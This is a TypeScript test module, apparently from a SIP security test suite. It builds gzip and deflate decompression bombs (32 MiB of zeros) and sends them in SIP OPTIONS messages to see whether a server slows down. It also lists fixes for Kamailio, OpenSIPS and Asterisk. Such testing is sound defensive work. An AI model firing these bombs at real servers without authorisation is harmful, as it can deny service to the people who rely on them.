import { deflateSync, gzipSync } from 'node:zlib'
import { attack } from '../attack.ts'
import { type Bomb, slowdown } from '../slowdown.ts'

/** Octets that come out of some forty thousand. */
const UNPACKED = 32 << 20

/** A body that grows a thousandfold for whoever unpacks it. */
export const compressedBodies = attack({
  id: 'compressed-bodies',
  entry: 'P12',
  title: 'sends a compressed body that becomes a thousand times as long',
  threats: ['software-bugs', 'flooding'],
  clause: 'Table 1, rows 2 and 6',
  references: ['RFC 3261 §20.12', 'RFC 3261 §21.4.13'],
  severity: 'high',
  isIntrusive: false,
  maxMessages: 300,
  needs: [],
  expected:
    'Nobody unpacks it: others are answered as fast behind it as behind a harmless body of its length.',
  mending: {
    aspis: 'On by default: bodies are not unpacked; nothing turns it off.',
    kamailio:
      'Do not unpack with `gzcompress`, which does it for every message while it is loaded; refuse by `msg:len` first.',
    opensips: 'Do not call `mc_decompress()` of the compression module on what strangers send.',
    asterisk: 'PJSIP unpacks no bodies; keep it so.',
  },
  run: trial => {
    const uri = `sip:${trial.target.domain}`
    const zeros = Buffer.alloc(UNPACKED)
    const bombs = [
      { what: 'a body of gzip', coding: 'gzip', octets: gzipSync(zeros) },
      { what: 'a body of deflate', coding: 'deflate', octets: deflateSync(zeros) },
    ].map(({ what, coding, octets }): Bomb => {
      const body = octets.toString('latin1')
      const saying = { method: 'OPTIONS', uri, contact: false } as const
      return {
        what,
        bomb: sender => sender.text({ ...saying, body, lines: [`Content-Encoding: ${coding}`] }),
        harmless: sender =>
          sender.text({ ...saying, body: 'x'.repeat(body.length), contentType: 'text/plain' }),
      }
    })
    return slowdown(trial, bombs)
  },
})
